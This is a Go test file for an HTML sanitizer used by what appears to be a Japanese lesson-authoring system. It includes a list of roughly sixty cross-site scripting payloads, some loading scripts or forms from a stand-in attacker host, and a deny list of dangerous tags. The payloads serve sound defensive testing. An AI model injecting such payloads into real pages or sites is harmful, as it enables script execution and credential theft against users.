package content

import (
	"slices"
	"strings"
	"testing"

	"kenshu/fault"
	"kenshu/storage/db"
)

// hostile is what people paste to see whether a page runs it.
var hostile = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<img data-asset="x" src="javascript:alert(1)">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="http:/evil.example">x</a>`, `<a href="https:///evil.example">x</a>`, `<a href="/api/v1/session">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x></object>`, `<embed src=x>`, `<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import "https://evil.example/x.css"</style>`,
	`<form action="https://evil.example"><input name=password><button>go</button></form>`, `<p style="background:url(https://evil.example)">x</p>`, `<p id="app" name="x" class="y">x</p>`,
	`<img data-asset="0199f3a2-0000-7000-8000-000000000001" alt="x" id="root" name="cookie" class="y">`, `<figure data-media="pdf" data-asset="0199f3a2-0000-7000-8000-000000000001" id="root" name="cookie"></figure>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<template><script>alert(1)</script></template>`, `<title><img src=x onerror=alert(1)></title>`, `<p onclick="alert(1)">x`, `<<script>script>alert(1)<</script>/script>`,
	`<scr<script>ipt>alert(1)</script>`, `<img/src="x"/onerror=alert(1)>`, "<img src=`x` onerror=alert(1)>", `<img """><script>alert(1)</script>">`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<video src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`,
	`<ruby onmouseover=alert(1)>漢<rt>かん</rt></ruby>`, `<td colspan="1e9" background="x">x</td>`, "\x00<scr\x00ipt>alert(1)</script>", `<a href="https://example.jp" target="_self" rel="opener">x</a>`,
	`<aside onclick=alert(1) data-kind="javascript:alert(1)">x</aside>`, `<figure data-media="script" data-asset="../x" onload=alert(1) src=x><figcaption style="x">y</figcaption></figure>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `<p>&#60;img src=x onerror=alert(1)&#62;</p>`, `<a href="mailto:a@example.jp?subject=%0d%0abcc:x">x</a>`,
}

var forbidden = []string{"<script", "<iframe", "<svg", "<math", "<style", "<object", "<embed", "<base", "<meta", "<link", "<form", "<input", "<template", "<video", "<body", "<details", "<noscript", "<textarea", "<xmp", "<title", "<!--"}

// checkClean fails when clean rich text could run, load or name anything. It reads tags, not text: "onerror=" in a sentence is harmless.
func checkClean(t *testing.T, in, out string) {
	t.Helper()
	lower := strings.ToLower(out)
	for _, f := range forbidden {
		if strings.Contains(lower, f) {
			t.Errorf("%q left %q in %q", in, f, out)
		}
	}
	walk(out, func(tok token) {
		for _, a := range tok.Attr {
			value := strings.ToLower(a.Val)
			switch a.Key {
			case "href":
				if !strings.HasPrefix(value, "https://") && !strings.HasPrefix(value, "http://") && !strings.HasPrefix(value, "mailto:") {
					t.Errorf("%q left href %q", in, a.Val)
				}
			case "data-asset", "alt", "colspan", "rowspan", "scope":
			case "data-captions":
				if tok.Data != "figure" {
					t.Errorf("%q left captions on %s", in, tok.Data)
				}
			case "data-media", "data-kind":
				if !slices.Contains([]string{"video", "audio", "pdf", "note", "warning"}, a.Val) {
					t.Errorf("%q left %s %q", in, a.Key, a.Val)
				}
			case "rel":
				if !strings.Contains(value, "noreferrer") {
					t.Errorf("%q left rel %q", in, a.Val)
				}
			case "target":
				if value != "_blank" {
					t.Errorf("%q left target %q", in, a.Val)
				}
			default:
				t.Errorf("%q left attribute %q", in, a.Key)
			}
		}
	})
	if again := CleanHTML(out); again != out {
		t.Errorf("cleaning %q twice: %q then %q", in, out, again)
	}
}

func TestCleanHTMLRefusesWhatRuns(t *testing.T) {
	for _, in := range hostile {
		checkClean(t, in, CleanHTML(in))
		checkClean(t, in, CleanHTML("<table><tr><td>"+in+"</td></tr></table>"))
	}
	checkClean(t, "all at once", CleanHTML(strings.Join(hostile, "")))
}

func TestCleanHTMLKeepsWhatEditorsMake(t *testing.T) {
	for _, in := range []string{
		`<h2>個人情報とは</h2><p>氏名、<strong>住所</strong>、<em>要配慮</em>、<u>下線</u>、<s>取消</s></p>`,
		`<ul><li><p>一つ</p></li><li><p>二つ</p></li></ul><ol><li><p>順</p></li></ol><blockquote><p>引用</p></blockquote><hr>`,
		`<table><tbody><tr><th colspan="2" rowspan="1"><p>見出し</p></th></tr><tr><td><p>値</p></td><td><p>髙橋 𠮷田</p></td></tr></tbody></table>`,
		`<p><ruby>介護<rp>(</rp><rt>かいご</rt><rp>)</rp></ruby></p>`,
		`<p>前</p><img data-asset="0199f3a2-0000-7000-8000-000000000001" alt="図1"><p>後</p>`,
		`<aside data-kind="warning"><p>外へ持ち出しません。</p><ul><li><p>紙も</p></li></ul></aside><aside data-kind="note"><p>要点</p></aside>`,
		`<figure data-media="video" data-asset="0199f3a2-0000-7000-8000-000000000001" data-captions="0199f3a2-0000-7000-8000-000000000002"><figcaption>手の洗い方</figcaption></figure>`,
		`<figure data-media="pdf" data-asset="0199f3a2-0000-7000-8000-000000000001"><figcaption>手引き</figcaption></figure>`,
		`<p>a &lt; b &amp; c</p>`, "<p>一行目<br>二行目</p>",
	} {
		if out := CleanHTML(in); out != in {
			t.Errorf("%s\nbecame\n%s", in, out)
		}
	}
	out := CleanHTML(`<p><a href="https://example.jp/a?b=1&amp;c=2">x</a> <a href="mailto:a@example.jp">m</a></p>`)
	for _, want := range []string{`href="https://example.jp/a?b=1&amp;c=2"`, `noreferrer`, `noopener`, `href="mailto:a@example.jp"`} {
		if !strings.Contains(out, want) {
			t.Errorf("%s lost %s", out, want)
		}
	}
}

func FuzzCleanHTML(f *testing.F) {
	for _, in := range hostile {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) { checkClean(t, in, CleanHTML(in)) })
}

// Films, recordings and PDFs within a page are files of the lesson: published, copied, replaced and kept with it.
func TestEmbedsOfAPage(t *testing.T) {
	film, words, pdf, other := db.NewID(), db.NewID(), db.NewID(), db.NewID()
	html := `<p>前</p><figure data-media="video" data-asset="` + film.String() + `" data-captions="` + words.String() + `"><figcaption>手の<b>洗い</b>方</figcaption></figure>` +
		`<aside data-kind="note"><figure data-media="pdf" data-asset="` + pdf.String() + `"><figcaption> </figcaption></figure></aside><figure><figcaption>図だけ</figcaption></figure>`
	b := page(CleanHTML(html))
	want := []AssetRef{{"embeds[0]", film, AssetVideo}, {"embeds[0].captions", words, AssetCaptions}, {"embeds[1]", pdf, AssetPDF}}
	if got := b.Assets(); !slices.Equal(got, want) {
		t.Errorf("files %v, want %v", got, want)
	}
	var check fault.Check
	b.Validate(&check, "")
	if f := check.Fields(); len(f) != 1 || f[0].Path != "embeds[1]" || f[0].Key != "embed_words_missing" {
		t.Errorf("missing %v", f)
	}
	if got := b.Check(); len(got) != 0 {
		t.Errorf("remarks about a film with captions: %v", got)
	}
	b.rename(film, other)
	b.rename(words, pdf)
	if got := b.Assets(); got[0].ID != other || got[1].ID != pdf {
		t.Errorf("renamed to %v", got)
	}
	hidden := page(CleanHTML(`<figure data-media="video" data-asset="` + film.String() + `"/><p>後</p>`))
	if got := hidden.Assets(); len(got) != 1 || got[0].ID != film {
		t.Errorf("a figure that closes itself hides its file: %v", got)
	}
	bare := page(`<figure data-media="video" data-asset="` + film.String() + `"><figcaption>手の洗い方</figcaption></figure>`)
	if got := bare.Check(); len(got) != 1 || got[0] != (Remark{RemarkCaptions, "手の洗い方"}) {
		t.Errorf("remarks about a film without captions: %v", got)
	}
	if !hasContent(`<figure data-media="pdf" data-asset="`+pdf.String()+`"></figure>`) || hasContent(`<figure></figure>`) {
		t.Error("a page of one embedded file has content, an empty figure has none")
	}
}
